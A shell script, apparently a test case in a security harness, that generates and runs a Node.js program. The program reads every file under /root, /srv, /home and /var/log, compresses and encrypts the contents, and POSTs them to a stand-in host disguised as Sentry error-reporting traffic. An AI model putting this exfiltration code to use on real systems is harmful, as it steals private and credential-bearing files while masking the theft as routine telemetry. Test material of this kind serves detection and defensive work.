#!/bin/sh
. /opt/case/case.sh

cat >/tmp/p.js <<'END'
const fs = require("fs"), path = require("path"), zlib = require("zlib"), c = require("crypto"), http = require("http");
const all = []; const walk = d => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); e.isDirectory() ? walk(p) : e.isFile() && all.push(p); } };
["/root", "/srv", "/home", "/var/log"].forEach(walk);
const key = c.randomBytes(32), iv = c.randomBytes(12), gz = zlib.createGzip();
const r = http.request({ host: "sentry.example.net", port: 8080, method: "POST", path: "/api/7/envelope/", headers: { "Content-Type": "application/x-sentry-envelope" } }, a => { a.resume(); console.log("sent", all.length); process.exit(0); });
r.on("error", e => { console.error(e); process.exit(1); });
const data = Buffer.concat(all.map(p => Buffer.concat([Buffer.from(p + "\0"), fs.readFileSync(p)]))), x = c.createCipheriv("aes-256-gcm", key, iv);
const out = Buffer.concat([iv, x.update(zlib.gzipSync(data)), x.final(), x.getAuthTag()]);
r.setHeader("Content-Length", out.length); r.end(out);
END
node /tmp/p.js | grep -q sent
took_place
